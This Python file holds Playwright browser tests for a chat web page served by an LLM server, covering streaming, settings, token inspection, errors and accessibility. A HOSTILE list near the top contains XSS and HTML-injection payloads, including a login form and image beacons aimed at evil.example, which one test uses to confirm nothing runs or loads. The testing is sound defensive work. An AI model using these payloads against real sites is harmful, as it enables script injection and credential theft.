"""The chat page does what it promises, in a real browser and with the real server."""

import json
import re
import time
from dataclasses import replace

import pytest

from nanollm.generate.engine import Engine
from tests.serve.conftest import CONTEXT
from tests.serve.running import serving, wait_until

STEP_S = 0.02
RUN = "window.ran=1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    "<img src=http://evil.example/pixel.png>",
    "![](http://evil.example/markdown.png)",
    f"[click](javascript:{RUN})",
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>here</a>',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}><video><source onerror={RUN}></video>",
    "<form action=http://evil.example><input name=key><button>Log in</button></form>",
    "<base href=http://evil.example/><link rel=stylesheet href=/x.css><style>*{display:none}</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    f"</div></article></template><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<scr<script>ipt>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\u003cimg src=x onerror={RUN}\u003e \ufeff\u202e\u2028\u2029!",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} `${{{RUN}}}`",
    f"<img src=x onerror={RUN}",
    f'"><img src=x onerror={RUN}><"',
    "<plaintext><xmp><noscript>",
    "data: [DONE]\n\ndata: {}",
]
CHAT = "**/v1/chat/completions"
FINISHED = ".exchange:last-child:not([data-status=waiting]):not([data-status=streaming])"
REPLY = ".exchange:last-child .reply > .text"


class SlowEngine(Engine):
    """Takes a moment over each token and never ends a reply, so that there is time to watch it, and to stop it."""

    def submit(self, request):
        return super().submit(replace(request, stop_token_ids=frozenset()))

    def step(self):
        time.sleep(STEP_S)
        return super().step()


@pytest.fixture(scope="module")
def slow_server(bundle, serve_extra):
    with serving(bundle, make_engine=lambda: SlowEngine(bundle.model, rows=4)) as running:
        yield running


@pytest.fixture
def visit(browser):
    """visit(server, **context): a page that was opened for the first time, and must not complain until the end."""
    complaints, contexts = [], []

    def open_page(server, **context):
        contexts.append(browser.new_context(**{"viewport": {"width": 1100, "height": 800}} | context))
        page = contexts[-1].new_page()
        page.set_default_timeout(8_000)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", lambda entry: complaints.append(entry.text) if entry.type in ("error", "warning") else None)
        page.goto(server.url)
        page.locator("#model-name", has_text="tiny").wait_for()
        return page

    yield open_page
    for context in contexts:
        context.close()
    # The browser itself reports answers such as 429 and lost connections; tests that cause them look at the page.
    assert [text for text in complaints if not text.startswith("Failed to load resource")] == []


def send(page, question="Once upon a time?"):
    page.fill("#message", question)
    page.keyboard.press("Enter")


def ask(page, question="Once upon a time?"):
    send(page, question)
    page.wait_for_selector(FINISHED)


def set_up(page, **settings):
    """Reload the page with these settings kept."""
    page.evaluate("kept => localStorage.setItem('nanollm.settings', kept)", json.dumps(settings))
    page.reload()
    page.locator("#model-name", has_text="tiny").wait_for()


def events(*texts, ending="data: [DONE]\n\n", **extra):
    """What the server would stream for these pieces of text; extra: fields of each choice."""
    chunks = [{"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None, **extra}]} for text in texts]
    return "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + ending


def answer_with(page, body, status=200, **headers):
    """From now on the page is told this instead of what the server says."""
    kind = "text/event-stream" if status == 200 else "application/json"
    page.route(CHAT, lambda route: route.fulfill(status=status, body=body, content_type=kind, headers=headers))


def is_too_wide(page):
    return page.evaluate(
        "[document.documentElement, document.getElementById('scroller'), document.querySelector('.fields')]"
        ".some(part => part.scrollWidth > part.clientWidth)"
    )


def lightness(page):
    """Of the ground that the page is painted on, from 0 to 255."""
    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
    return sum(map(int, re.findall(r"\d+", colour)[:3])) / 3


# --- a conversation ---


def test_a_reply_appears_while_it_is_written_and_says_what_it_cost(visit, slow_server):
    page = visit(slow_server)
    set_up(page, seed=3, max_tokens=60)
    send(page)
    page.wait_for_selector("[data-status=streaming]")
    wait_until(lambda: len(page.locator(REPLY).text_content()) > 3)
    early = page.locator(REPLY).text_content()
    page.wait_for_selector(FINISHED)
    whole = page.locator(REPLY).text_content()
    assert whole.startswith(early) and len(whole) > len(early)
    numbers = page.locator(".numbers").text_content()
    assert re.search(r"\d+ tokens?.*\d tokens/s.*\d m?s to the first.*seed 3", numbers), numbers
    assert re.match(rf"[1-9]\d* of {CONTEXT} tokens", page.locator("#room-text").text_content())


def test_stop_ends_the_reply_in_the_server_and_what_had_come_stays(visit, slow_server):
    page = visit(slow_server)
    set_up(page, seed=3)
    send(page)
    wait_until(lambda: len(page.locator(REPLY).text_content()) > 3)
    assert slow_server.engine.load == 1
    page.keyboard.press("Escape")
    page.wait_for_selector("[data-status=stopped]")
    before = slow_server.engine.stats.drawn_tokens
    slow_server.settle(2)
    assert slow_server.engine.stats.drawn_tokens - before < 5
    assert page.locator(REPLY).text_content()
    assert "stopped" in page.locator(".numbers").text_content()
    assert page.locator("#message").evaluate("box => box === document.activeElement")


@pytest.mark.long
def test_asking_again_replaces_the_last_reply_only_and_the_conversation_goes_on(visit, server):
    page = visit(server)
    set_up(page, seed=11, max_tokens=20)
    ask(page, "One?")
    ask(page, "Two?")
    first, old = page.locator(".reply > .text").all_text_contents()
    with page.expect_request(CHAT) as asked:
        page.locator(".exchange:last-child .again").click()
    page.wait_for_selector(f"{FINISHED}:has-text('seed 12')")  # a fixed seed moves on by one
    assert [message["content"] for message in asked.value.post_data_json["messages"]] == ["One?", first, "Two?"]
    assert page.locator(".exchange").count() == 2
    assert page.locator(".reply > .text").all_text_contents()[0] == first
    assert page.locator(REPLY).text_content() != old


@pytest.mark.long
def test_a_reload_keeps_the_conversation_and_a_new_chat_forgets_it(visit, server):
    page = visit(server)
    ask(page)
    reply = page.locator(REPLY).text_content()
    page.reload()
    assert page.locator(REPLY).text_content() == reply
    page.click("#new")
    assert page.locator(".exchange").count() == 0
    assert page.locator("#welcome").is_visible()
    page.reload()
    page.locator("#model-name", has_text="tiny").wait_for()
    assert page.locator(".exchange").count() == 0


@pytest.mark.long
def test_a_kept_conversation_that_cannot_be_read_is_forgotten_as_a_whole(visit, server):
    page = visit(server)
    ask(page, "One?")
    page.evaluate(
        """() => {
            const kept = JSON.parse(sessionStorage.getItem("nanollm.conversation"));
            sessionStorage.setItem("nanollm.conversation", JSON.stringify([...kept, { question: "half" }]));
        }"""
    )
    page.reload()
    page.locator("#model-name", has_text="tiny").wait_for()
    assert page.locator(".exchange").count() == 0 and page.locator("#welcome").is_visible()
    assert page.evaluate("sessionStorage.getItem('nanollm.conversation')") == "[]"
    with page.expect_request(CHAT) as asked:
        ask(page, "Two?")
    assert [message["content"] for message in asked.value.post_data_json["messages"]] == ["Two?"]


def tags_of(page):
    """How often each kind of element is there, but for the lines that a screen reader is told."""
    return page.evaluate(
        """() => [...document.querySelectorAll("*:not(#spoken *)")].reduce((counts, { tagName }) => (
            { ...counts, [tagName]: (counts[tagName] ?? 0) + 1 }), {})"""
    )


def converse(page, texts):
    """Three exchanges: user and model both say a third of the texts, in pieces; they are the tokens, too."""
    page.click("#new")
    for third in (texts[number::3] for number in range(3)):
        tokens = [{"token": text, "bytes": list(text.encode()), "logprob": -1.0} for text in third]
        seen = [token | {"top_logprobs": tokens, "experts": [[0]]} for token in tokens]
        said = "\n".join(third)
        middle = len(said) // 2
        stream = events(said[:middle], ending="") + events(said[middle:], logprobs={"content": seen})
        answer_with(page, stream)
        ask(page, said)
        assert page.locator(REPLY).text_content() == said
        page.locator(".exchange:last-child .token").first.click()
        assert page.locator(".exchange:last-child .token").all_text_contents() == third
        page.unroute(CHAT)


def test_nothing_that_is_written_runs_or_fetches_anything(visit, server):
    page = visit(server)
    asked_for, dialogs = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.click("#inside")
    converse(page, [f"harmless {number}" for number in range(len(HOSTILE))])
    harmless = tags_of(page)
    page.on("request", lambda request: asked_for.append(request.url))
    converse(page, HOSTILE)
    assert tags_of(page) == harmless
    assert set(page.locator("#spoken *").evaluate_all("all => all.map(({ tagName }) => tagName)")) == {"P"}
    answer_with(page, json.dumps({"error": {"message": HOSTILE[1], "code": HOSTILE[1]}}), 400)
    ask(page, HOSTILE[1])
    page.reload()
    page.locator("#model-name", has_text="tiny").wait_for()
    page.wait_for_timeout(200)  # for what would run or load by itself
    thirds = ["\n".join(HOSTILE[number::3]) for number in range(3)]
    assert page.locator(".question > .text").all_text_contents() == [*thirds, HOSTILE[1]]
    assert page.locator(".reply > .text").all_text_contents()[:3] == thirds
    assert page.evaluate("window.ran") is None and dialogs == []
    own = (f"{page.url}page/", f"{page.url}v1/")
    assert {url for url in asked_for if not url.startswith(own)} <= {page.url, f"{page.url}favicon.ico"}


# --- settings ---


@pytest.mark.long
def test_settings_outlive_the_page_and_reach_the_server(visit, server):
    page = visit(server)
    page.click("#settings")
    for name, value in {"temperature": "0.25", "top_p": "0.9", "top_k": "40", "max_tokens": "7", "seed": "5"}.items():
        page.fill(f"#{name}", value)
    page.fill("#system", "Be brief.")
    page.click("text=Done")
    page.reload()
    with page.expect_request(CHAT) as asked:
        ask(page)
    body = asked.value.post_data_json
    expected = {"temperature": 0.25, "top_p": 0.9, "top_k": 40, "max_tokens": 7, "seed": 5, "stream": True}
    assert {name: body[name] for name in expected} == expected
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    page.click("#settings")
    page.click("text=Reset to defaults")
    assert page.input_value("#temperature") == "0.8"
    assert page.input_value("#seed") == page.input_value("#system") == ""


@pytest.mark.long
def test_settings_that_make_no_sense_are_refused_and_never_kept(visit, server):
    page = visit(server)
    page.click("#settings")
    page.fill("#temperature", "3")
    assert page.locator("#temperature-help").text_content() == "A number from 0 to 2."
    page.click("text=Done")
    assert page.locator("dialog").is_visible()
    assert page.locator("#temperature").evaluate("box => box === document.activeElement")
    set_up(page, temperature="hot", top_p=None, top_k=1.5, max_tokens=-1, seed=6, system=["x"], unknown=1)
    page.click("#settings")
    assert [page.input_value(f"#{name}") for name in ("temperature", "top_p", "top_k", "max_tokens", "seed")] == [
        *("0.8", "1", "0", "", "6")
    ]


ADD = {"type": "function", "function": {"name": "add", "parameters": {"type": "object", "required": ["a"]}}}


def test_a_schema_makes_replies_json_and_one_that_is_refused_says_why(visit, server):
    page = visit(server)
    page.click("#settings")
    page.fill("#schema", "{'enum': 1}")
    assert page.locator("#schema-help").text_content() == 'JSON as {"type": "object"}, or nothing.'
    page.fill("#schema", '{"enum": [{"a": 1}, {"a": 22}]}')
    page.click("text=Done")
    ask(page)
    assert json.loads(page.locator(REPLY).text_content()) in ({"a": 1}, {"a": 22})
    set_up(page, schema='{"$ref": "https://example.org/x.json"}')
    ask(page)
    title, advice = (page.locator(f".exchange:last-child .{name}").text_content() for name in ("title", "advice"))
    assert title == "The server did not accept this."
    assert advice.startswith("Response_format: ") and "retrieving it failed" in advice


def test_calls_of_functions_are_shown_also_after_a_reload_and_not_told_to_the_model(visit, server):
    page = visit(server)
    set_up(page, tools=json.dumps([ADD]))
    pieces = [
        {"index": 0, "function": {"name": "add", "arguments": '{"a":'}},
        {"index": 0, "function": {"arguments": "1}"}},
    ]
    pieces += [{"index": 1, "function": {"name": HOSTILE[1], "arguments": HOSTILE[0]}}]
    chunks = [{"choices": [{"index": 0, "delta": {"tool_calls": [piece]}, "finish_reason": None}]} for piece in pieces]
    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
    answer_with(page, "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n")
    with page.expect_request(CHAT) as asked:
        ask(page, "One?")
    assert asked.value.post_data_json["tools"] == [ADD]
    expected = ['add({"a":1})', f"{HOSTILE[1]}({HOSTILE[0]})"]
    assert page.locator(".calls li").all_text_contents() == expected
    assert "the page runs no functions" in page.locator(".numbers").text_content()
    page.reload()
    assert page.locator(".calls li").all_text_contents() == expected
    page.unroute(CHAT)
    with page.expect_request(CHAT) as asked:
        ask(page, "Two?")
    assert [message["content"] for message in asked.value.post_data_json["messages"]] == ["Two?"]
    assert page.locator(FINISHED).get_attribute("data-status") == "done"
    assert page.evaluate("window.ran") is None


# --- looking inside ---


@pytest.mark.long
def test_looking_inside_shows_each_token_its_rivals_and_its_experts(visit, server, bundle):
    page = visit(server)
    set_up(page, seed=3, max_tokens=20)
    page.click("#inside")
    ask(page)
    tokens = page.locator(".token")
    counted = int(re.match(r"\d+", page.locator(".numbers").text_content())[0])
    assert tokens.count() == counted > 3
    assert "".join(tokens.all_text_contents()) == page.locator(REPLY).text_content()
    tokens.nth(2).click()
    assert page.locator(".other").count() in (5, 6)  # the token itself may not be among the most likely
    assert page.locator(".other.taken").count() == 1
    config = bundle.model.config
    assert page.locator(".route .block").all_text_contents() == ["block 2", "block 4"]
    assert page.locator(".cell").count() == 2 * config.n_routed_experts
    assert page.locator(".cell.taken").count() == 2 * config.experts_per_token
    rows = [row.locator("td").all_text_contents() for row in page.locator(".shares tr").all()[1:]]
    for row in rows:  # each token has that many experts in each block; the shares are rounded
        assert sum(map(int, row)) == pytest.approx(100 * config.experts_per_token, abs=config.n_routed_experts)
    page.reload()
    assert page.locator(".token").first.is_visible()
    page.click("#inside")
    assert not page.locator(".token").first.is_visible() and page.locator(REPLY).is_visible()


@pytest.mark.parametrize("is_inside", [False, True], ids=["text", "inside"])
def test_what_a_tool_wrote_has_another_colour_also_after_a_reload(visit, server, is_inside):
    page = visit(server)
    tokens = [{"token": text, "bytes": list(text.encode()), "logprob": -0.5} for text in ("5*3=<<5*3=", "15")]
    seen = [{"logprobs": {"content": [token | {"top_logprobs": [], "experts": [[0]]}]}} for token in tokens]
    first, last = seen if is_inside else ({}, {})
    parts = [events("5*3=<<5*3=", ending="", **first), events("15>>", ending="", given=True), events("15", **last)]
    answer_with(page, "".join(parts))
    if is_inside:
        page.click("#inside")
    ask(page)
    if is_inside:
        page.locator(".token.given").click()
        assert "given by a tool" in page.locator(".panel").text_content()
    place = ".tokens" if is_inside else ".reply > .text"
    for _ in range(2):
        assert page.locator(place).text_content() == "5*3=<<5*3=15>>15"
        assert page.locator(f"{place} .given").all_text_contents() == ["15>>"]
        colours = "given => [given, given.parentElement].map(each => getComputedStyle(each).color)"
        its, of_the_reply = page.locator(f"{place} .given").evaluate(colours)
        assert its != of_the_reply
        assert "written by a tool" in page.locator(".numbers").text_content()
        page.reload()
        page.locator("#model-name", has_text="tiny").wait_for()


@pytest.mark.long
def test_a_character_of_two_tokens_is_one_character(visit, server):
    page = visit(server)
    halves = [
        {"token": "half", "bytes": list(half), "logprob": -0.5, "top_logprobs": [], "experts": []}
        for half in (b"\xc3", b"\xa9!")
    ]
    answer_with(page, events("é!", logprobs={"content": halves}))
    page.click("#inside")
    ask(page)
    assert page.locator(".token").all_text_contents() == ["", "é!"]
    assert page.locator(".token").first.get_attribute("data-mark") == "C3"


# --- trouble ---


@pytest.mark.long
def test_a_busy_server_is_asked_again_when_it_said_so(visit, server):
    page = visit(server)
    busy = json.dumps({"error": {"message": "full", "type": "rate_limit_error", "param": None, "code": "queue_full"}})
    answer_with(page, busy, 429, **{"Retry-After": "1"})
    ask(page)
    assert page.locator(".trouble .title").text_content() == "The server is busy."
    assert page.locator(".retry").is_disabled()
    page.unroute(CHAT)
    page.click(".retry:enabled")
    page.wait_for_selector("[data-status=done]")
    assert not page.locator(".trouble").is_visible()


@pytest.mark.long
def test_a_lost_connection_keeps_what_had_come(visit, server):
    page = visit(server)
    answer_with(page, events("Once upon", ending=""))
    ask(page)
    assert page.locator(REPLY).text_content() == "Once upon"
    assert "lost" in page.locator(".trouble .title").text_content()
    page.unroute(CHAT)
    page.click(".retry")
    page.wait_for_selector("[data-status=done]")


@pytest.mark.long
@pytest.mark.parametrize(
    ("status", "body", "title"),
    [
        (200, 'data: {"error": {"message": "the reply took too long"}}\n\n', "The server ended the reply."),
        (401, '{"error": {"message": "no key", "code": "invalid_api_key"}}', "The server asks for its key."),
        (500, "<html>not ours</html>", "The server could not answer."),
    ],
)
def test_the_reader_is_told_what_went_wrong(visit, server, status, body, title):
    page = visit(server)
    answer_with(page, body, status)
    ask(page)
    assert page.locator(".trouble .title").text_content() == title
    assert page.locator(".retry").is_enabled()


@pytest.mark.long
def test_a_conversation_beyond_the_context_leads_to_a_new_chat(visit, server):
    page = visit(server)
    ask(page, "a word, " * CONTEXT)
    assert "too long" in page.locator(".trouble .title").text_content()
    assert page.locator(".retry").is_hidden()  # it cannot help
    page.click(".fresh")
    assert page.locator(".exchange").count() == 0
    ask(page)
    assert page.locator(REPLY).text_content()


# --- for everybody ---


@pytest.mark.long
def test_light_or_dark_follows_the_system_until_somebody_chooses(visit, server):
    page = visit(server, color_scheme="dark")
    assert lightness(page) < 60
    page.emulate_media(color_scheme="light")
    assert lightness(page) > 200
    page.click("#theme")
    assert lightness(page) < 60
    page.reload()
    assert lightness(page) < 60
    assert page.locator("#theme").get_attribute("aria-pressed") == "true"


@pytest.mark.long
def test_a_phone_never_scrolls_sideways(visit, server):
    page = visit(server, viewport={"width": 360, "height": 640}, has_touch=True)
    set_up(page, max_tokens=60)
    page.click("#inside")
    low = page.locator("#message").bounding_box()["height"]
    page.fill("#message", "line\n" * 6 + "long" * 60)
    assert page.locator("#message").bounding_box()["height"] > 2 * low
    page.keyboard.press("Enter")
    page.wait_for_selector(FINISHED)
    assert page.locator("#message").bounding_box()["height"] == low
    page.locator(".token").first.click()
    assert page.locator(".panel").is_visible() and not is_too_wide(page)
    page.click("#settings")
    assert not is_too_wide(page)


@pytest.mark.long
def test_everything_can_be_done_with_the_keyboard(visit, server):
    page = visit(server)
    set_up(page, max_tokens=12, seed=3)
    focused = "document.activeElement.id || document.activeElement.className"
    assert page.evaluate(focused) == "message"
    page.keyboard.type("First line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    page.keyboard.press("Alt+i")
    page.keyboard.press("Enter")
    page.wait_for_selector(FINISHED)
    assert page.locator(".question .text").text_content() == "First line\nsecond line"
    page.locator("#settings").focus()
    order = [(page.keyboard.press("Tab"), page.evaluate(focused))[1] for _ in range(5)]
    assert order == ["scroller", "token", "small copy", "small again", "message"]
    page.locator(".token").first.focus()
    page.keyboard.press("ArrowRight")
    assert page.locator(".token").nth(1).get_attribute("aria-selected") == "true"
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("/")
    assert page.evaluate(focused) == "message"
    page.keyboard.press("Alt+r")
    page.wait_for_selector(f"{FINISHED}:has-text('seed 4')")
    page.keyboard.press("Alt+o")
    for _ in range(12):
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement === document.body || !!document.activeElement.closest('dialog')")
    page.keyboard.press("Escape")
    assert page.evaluate(focused) == "message"
    page.keyboard.press("Alt+n")
    assert page.locator(".exchange").count() == 0


@pytest.mark.long
def test_a_screen_reader_hears_whole_sentences_and_the_end(visit, server):
    page = visit(server)
    answer_with(page, events("Once", " upon. A", " time", " it was"))
    ask(page)
    assert page.locator("#spoken p").all_text_contents()[:2] == ["Once upon.", "A time it was"]
    assert page.locator("#spoken p").last.text_content().startswith("End of the reply")
    assert page.locator("#spoken").get_attribute("aria-live") == "polite"


@pytest.mark.long
def test_a_stream_may_be_cut_anywhere(visit, server):
    page = visit(server)
    stream = (
        ': hello\r\ndata: {"a": "é"}\r\n\r\ndata: one\ndata:two\n\n: ping\n\nevent: x\rdata: 🐚\r\rdata: [DONE]\n\n'
    )
    found = page.evaluate(
        """async (text) => {
            const { readEvents } = await import("/page/server.js");
            const bytes = new TextEncoder().encode(text);
            const found = new Set();
            for (let cut = 0; cut <= bytes.length; cut++) {
                for (const step of [1, 7, bytes.length]) {
                    const parts = [bytes.slice(0, cut)];
                    for (let at = cut; at < bytes.length; at += step) parts.push(bytes.slice(at, at + step));
                    const body = new ReadableStream({ start(control) {
                        parts.forEach((part) => control.enqueue(part));
                        control.close();
                    } });
                    const events = [];
                    for await (const { data } of readEvents(body)) events.push(data);
                    found.add(JSON.stringify(events));
                }
            }
            return [...found].map((events) => JSON.parse(events));
        }""",
        stream,
    )
    assert found == [['{"a": "é"}', "one\ntwo", "🐚", "[DONE]"]]


@pytest.mark.long
def test_with_a_key_the_browser_is_asked_for_it_once_and_the_page_works(bundle, serve_extra, visit):
    with serving(bundle, api_key="a key") as guarded:
        page = visit(guarded, http_credentials={"username": "anyone", "password": "a key"})
        set_up(page, seed=3)  # whose reply is not empty
        ask(page)
        assert page.locator(REPLY).text_content()
        wait_until(lambda: guarded.engine.load == 0)


def test_a_question_that_the_model_was_tuned_with_is_one_click_away(bundle, serve_extra, visit):
    tuned = {"config": {"sample_prompts": ["Once upon a time?", "<b>And then?</b>"]}, "parent": {"made_by": "a test"}}
    with serving(replace(bundle, provenance={"config": {}, "parent": tuned})) as running:
        page = visit(running)
        assert page.locator("#examples button").all_text_contents() == tuned["config"]["sample_prompts"]
        page.click("#examples button")
        page.wait_for_selector(FINISHED)
        assert page.locator(".question .text").all_text_contents() == ["Once upon a time?"]
        assert page.locator("#examples").is_hidden()
